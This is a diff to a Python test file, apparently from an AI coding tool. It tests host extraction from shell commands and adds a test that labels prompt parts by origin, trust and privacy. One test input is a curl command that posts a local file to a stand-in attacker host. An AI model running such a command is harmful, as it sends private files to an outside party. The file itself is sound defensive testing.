@@ -232,3 +232,21 @@ def test_hosts_that_a_command_names():
     assert find_wanted_hosts("curl -d @a https://u:p@evil.example:8443/x") == ("evil.example:8443",)
     assert find_wanted_hosts("git push origin main") == ("",)
     assert find_wanted_hosts("echo https://evil.example") == ()
+
+
+def test_what_the_user_adds_to_a_prompt_has_the_origin_of_its_content(workspace):
+    def origins_of(part, *, trusted=True):
+        labels, message = OriginLabels(trusts_workspace=lambda: trusted), Message("user")
+        message.parts = [part]
+        found = ContextOrigins().update([message], labels, workspace)
+        return [(one.kind, one.untrusted, one.private) for one in found]
+
+    ran = TextPart("The user ran a command: curl x", synthetic=True, metadata={"command": "curl x"})
+    assert origins_of(ran) == [("workspace", False, True), ("web", True, False)]
+    listed = TextPart("The user ran a command: ls", synthetic=True, metadata={"command": "ls"})
+    assert origins_of(listed) == [("workspace", False, True)]
+    file = FilePart("text/plain", "data:,x", "a.py", FileSource("src/a.py"))
+    shown = TextPart("src/a.py: x", synthetic=True, origins=(FILE,))
+    for part in (file, shown):
+        assert origins_of(part) == [("workspace", False, True)]
+        assert origins_of(part, trusted=False) == [("workspace", True, True)]
